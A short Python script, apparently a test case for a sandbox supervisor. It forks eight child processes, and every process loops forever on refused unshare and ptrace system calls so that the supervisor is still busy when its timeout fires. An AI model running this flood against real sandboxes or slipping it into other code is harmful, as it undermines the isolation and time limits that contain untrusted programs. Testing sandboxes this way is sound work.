"""Makes refused calls without end in many processes, so that the supervisor is busy with answers when its time is up."""

from attack import *

print("flood", flush=True)
for _ in range(8):
    if os.fork() == 0:
        break
while True:
    libc.unshare(0x10000000)
    libc.ptrace(0, 0, 0, 0)
